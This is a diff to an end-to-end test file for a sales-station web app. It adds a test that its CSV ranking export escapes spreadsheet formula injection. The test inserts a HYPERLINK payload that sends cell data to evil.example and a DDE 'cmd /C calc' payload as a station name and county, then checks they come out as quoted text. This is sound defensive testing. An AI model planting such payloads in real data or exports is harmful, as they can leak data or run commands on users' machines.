@@ -1,4 +1,6 @@
 import { randomUUID } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import Papa from 'papaparse';
 import type { Page } from 'playwright-core';
 import { expect, test } from 'vitest';
 import { issueToken } from '#scripts/local/tokens.ts';
@@ -18,7 +20,7 @@ function call(role: 'ops' | 'partner', stationId = demo.station) {
       headers: {
         authorization: `Bearer ${token}`,
         ...(body !== undefined ? { 'content-type': 'application/json' } : {}),
-        ...(method === 'POST' ? { 'idempotency-key': randomUUID() } : {}),
+        ...(['POST', 'PATCH', 'DELETE'].includes(method) ? { 'idempotency-key': randomUUID() } : {}),
       },
       ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
     });
@@ -358,4 +360,44 @@ test('the month: ranking, a station’s statement and chart; every screen at 360
   await page.getByRole('button', { name: 'English' }).click();
   await page.getByRole('heading', { name: 'New station' }).waitFor();
   await noSeriousViolations(page);
+});
+
+test('the ranking export: a station named like a formula, and a county changed to one, are text in the spreadsheet, never live formulas', async () => {
+  const name = `=HYPERLINK("http://evil.example/?x="&A1,"点击领奖") ${Date.now().toString(36)}`;
+  const station = await ops('POST', '/v1/stations', stationInput(name));
+  expect(station.httpStatus).toBe(201);
+  const county = "@SUM(1+1)*cmd|' /C calc'!A0";
+  const moved = await ops('PATCH', `/v1/stations/${station.stationId}`, { county });
+  expect(moved).toMatchObject({ httpStatus: 200, county });
+  // A sale handed over this month, so the station is in this month's ranking.
+  const seller = call('partner', station.stationId);
+  const buyer = await seller('POST', `/v1/stations/${station.stationId}/villagers`, {
+    name: '周大妈',
+    villageId: station.villages[0].villageId,
+    consent: true,
+  });
+  const sale = await seller('POST', `/v1/stations/${station.stationId}/orders`, {
+    villagerId: buyer.villagerId,
+    lines: [{ sku: demo.rice, qty: 1 }],
+    paymentMode: 'CASH_ON_ORDER',
+    fulfilment: 'STATION_PICKUP',
+    cashReceivedFen: 8_990,
+  });
+  await seller('POST', `/v1/orders/${sale.orderId}/arrive`);
+  expect((await seller('POST', `/v1/orders/${sale.orderId}/pickup`, { deliveryCode: sale.deliveryCode })).httpStatus).toBe(200);
+
+  const page = await signIn(1280);
+  await page.getByRole('link', { name: '本月' }).click();
+  await page.getByRole('region', { name: '服务站销售排名' }).getByText(name).waitFor();
+  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /导出/ }).click()]);
+  const text = readFileSync((await download.path())!, 'utf8').replace(/^\uFEFF/, '');
+  const rows = Papa.parse<string[]>(text.trim()).data;
+  const row = rows.find((r) => r[1] === station.stationId)!;
+  expect(row).toBeDefined();
+  // Shown as typed, behind a quote that makes a spreadsheet read the cell as text.
+  expect(row[2]).toBe(`'${name}`);
+  expect(row[3]).toBe(`'${county}`);
+  // Nothing in the file starts a formula (= + - @, or a tab or carriage return before one); amounts stay numbers.
+  for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+  expect(Number(row[4])).toBeGreaterThan(0);
 });
